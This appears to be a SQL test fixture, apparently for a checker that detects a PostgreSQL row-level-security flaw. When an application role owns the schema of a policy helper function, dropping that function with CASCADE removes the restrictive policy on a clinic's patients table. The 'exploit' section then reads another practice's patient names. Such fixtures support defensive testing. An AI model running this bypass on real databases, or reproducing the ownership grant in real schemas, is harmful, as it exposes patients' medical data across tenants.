-- The app role owns the schema of the helper, and dropping the helper takes the restrictive policies with it.
-- object: schema:guard
-- object: public.patients
-- object: guard.ours(uuid)
-- base: clinic
--- setup
RESET ROLE;
CREATE SCHEMA guard;
CREATE FUNCTION guard.ours(uuid) RETURNS boolean LANGUAGE sql STABLE
    AS $$ SELECT $1 = nullif(current_setting('clinic.practice', true), '')::uuid $$;
GRANT USAGE ON SCHEMA guard TO {ehr};
DROP POLICY floor ON patients;
CREATE POLICY floor ON patients AS RESTRICTIVE USING (guard.ours(practice_id));
--- leak
RESET ROLE;
ALTER SCHEMA guard OWNER TO {ehr};
--- exploit
DROP FUNCTION guard.ours(uuid) CASCADE;
SELECT full_name FROM patients WHERE practice_id = '{B}';
